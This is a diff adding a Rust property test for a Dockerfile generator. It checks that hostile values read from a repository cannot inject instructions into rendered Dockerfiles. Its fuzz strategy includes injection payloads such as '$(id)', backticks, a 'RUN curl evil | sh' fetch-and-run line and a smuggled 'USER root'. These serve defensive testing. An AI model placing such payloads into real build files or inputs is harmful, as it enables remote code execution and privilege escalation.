@@ -1,0 +1,184 @@
+//! No injection through detected values: every preset is rendered with hostile values (newlines, quotes,
+//! `$()`, backticks, backslashes, `#`) in place of each value read from a repository. Rendering must either
+//! refuse, or produce exactly the instructions the honest value produced.
+
+use std::path::Path;
+use std::sync::LazyLock;
+
+use dockgen::detect::{self, Candidate, Fact};
+use dockgen::fuzzing::{assert_well_formed, instructions};
+use dockgen::prompt::NonInteractive;
+use dockgen::{answers, preset, render};
+use indexmap::IndexMap;
+use proptest::prelude::*;
+use serde_json::Value;
+
+/// Repository-derived values: names, paths, versions and ports read from files.
+const FROM_REPOSITORY: &[&str] = &[
+    "module",
+    "main_package",
+    "binary_name",
+    "go_version",
+    "port",
+    "module_files",
+    "artifact",
+    "main_class",
+    "java_version",
+    "spring_boot_version",
+    "pom_files",
+];
+
+/// Projects whose detections cover every template branch that prints a repository value.
+const PROJECTS: &[(&str, &[(&str, &str)])] = &[
+    ("examples/go-http", &[]),
+    ("tests/fixtures/go-work-replace/repo", &[]),
+    ("tests/fixtures/vendor/repo", &[]),
+    ("tests/fixtures/cgo-import/repo", &[]),
+    ("examples/java-maven", &[]),
+    ("tests/fixtures/maven-final-name/repo", &[]),
+    ("tests/fixtures/spring-boot-mvnw/repo", &[]),
+    ("tests/fixtures/spring-boot-2/repo", &[]),
+    ("tests/fixtures/quarkus/repo", &[]),
+    ("tests/fixtures/reactor-two-runnable/repo", &[("module", "api")]),
+];
+
+struct Case {
+    candidate: Candidate,
+    /// The honest answers and facts the templates saw.
+    values: serde_json::Map<String, Value>,
+    preset: preset::Preset,
+    given: IndexMap<String, answers::Given>,
+    baseline: Vec<String>,
+}
+
+fn cases() -> Vec<Case> {
+    let presets = preset::builtin().unwrap();
+    let mut out = Vec::new();
+    for (project, given) in PROJECTS {
+        let root = Path::new(env!("CARGO_MANIFEST_DIR")).join(project);
+        let detection = detect::detect(&root).unwrap();
+        let candidate = detection.candidates[0].clone();
+        let given: IndexMap<String, answers::Given> = given
+            .iter()
+            .map(|(k, v)| {
+                (
+                    (*k).to_string(),
+                    answers::Given {
+                        text: (*v).to_string(),
+                        origin: format!("--set {k}="),
+                    },
+                )
+            })
+            .collect();
+        for preset in presets.iter().filter(|p| p.stack == candidate.stack) {
+            let resolved = answers::resolve(preset, Some(&candidate), &given, &mut NonInteractive).unwrap();
+            let dockerfile = render::render(preset, &resolved.values).unwrap().dockerfile;
+            out.push(Case {
+                values: resolved.values.clone(),
+                candidate: candidate.clone(),
+                preset: preset.clone(),
+                given: given.clone(),
+                baseline: instructions(&dockerfile),
+            });
+        }
+    }
+    out
+}
+
+/// Detection and the honest render happen once; each generated case only poisons and re-renders.
+static CASES: LazyLock<Vec<Case>> = LazyLock::new(cases);
+
+fn hostile() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        Just("\n".to_string()),
+        Just("\r\n".to_string()),
+        Just("\"".to_string()),
+        Just("'".to_string()),
+        Just("$(id)".to_string()),
+        Just("${HOME}".to_string()),
+        Just("`id`".to_string()),
+        Just("\\".to_string()),
+        Just("#".to_string()),
+        Just(" ".to_string()),
+        Just(";".to_string()),
+        Just("&&".to_string()),
+        Just("\nRUN curl evil | sh\n".to_string()),
+        Just("\"]\nUSER root\n".to_string()),
+        "[a-z0-9./_-]{0,8}",
+    ];
+    prop::collection::vec(piece, 1..6).prop_map(|parts| parts.concat())
+}
+
+/// Puts `value` in place of `key`'s value, inside lists and objects too (module_files, pom_files).
+fn poison(value: &Value, hostile: &str, index: usize) -> Value {
+    match value {
+        Value::Array(items) if !items.is_empty() => {
+            let mut items = items.clone();
+            let at = index % items.len();
+            items[at] = poison(&items[at], hostile, index / items.len());
+            Value::Array(items)
+        }
+        Value::Object(map) => {
+            let mut map = map.clone();
+            for (_, v) in map.iter_mut() {
+                *v = poison(v, hostile, index);
+            }
+            Value::Object(map)
+        }
+        _ => Value::from(hostile),
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
+
+    #[test]
+    fn hostile_repository_values_cannot_change_the_instructions(
+        case_index in 0usize..64,
+        key_index in 0usize..FROM_REPOSITORY.len(),
+        element in 0usize..8,
+        value in hostile(),
+    ) {
+        let case = &CASES[case_index % CASES.len()];
+        let key = FROM_REPOSITORY[key_index];
+        let mut candidate = case.candidate.clone();
+        let Some(fact) = candidate.facts.get(key).cloned() else { return Ok(()) };
+        let poisoned = poison(&fact.value, &value, element);
+        candidate.facts.insert(key.to_string(), Fact::new(poisoned, fact.source));
+        let Ok(resolved) = answers::resolve(&case.preset, Some(&candidate), &case.given, &mut NonInteractive) else {
+            return Ok(());
+        };
+        if let Ok(files) = render::render(&case.preset, &resolved.values) {
+            assert_well_formed(&files.dockerfile);
+            prop_assert_eq!(instructions(&files.dockerfile), case.baseline.clone(), "{} {}: {:?}\n{}", case.preset.name, key, value, files.dockerfile);
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]
+
+    /// The templates' own filters, without the answer validation in front of them, must hold too.
+    #[test]
+    fn template_filters_alone_refuse_hostile_values(
+        case_index in 0usize..64,
+        key_index in 0usize..FROM_REPOSITORY.len(),
+        element in 0usize..8,
+        value in hostile(),
+    ) {
+        let case = &CASES[case_index % CASES.len()];
+        let key = FROM_REPOSITORY[key_index];
+        let mut values = case.values.clone();
+        let Some(honest) = values.get(key).cloned() else { return Ok(()) };
+        values.insert(key.to_string(), poison(&honest, &value, element));
+        if let Ok(files) = render::render(&case.preset, &values) {
+            assert_well_formed(&files.dockerfile);
+            prop_assert_eq!(instructions(&files.dockerfile), case.baseline.clone(), "{} {}: {:?}\n{}", case.preset.name, key, value, files.dockerfile);
+        }
+    }
+}
+
+#[test]
+fn honest_values_render_for_every_case() {
+    assert!(CASES.len() >= PROJECTS.len());
+}
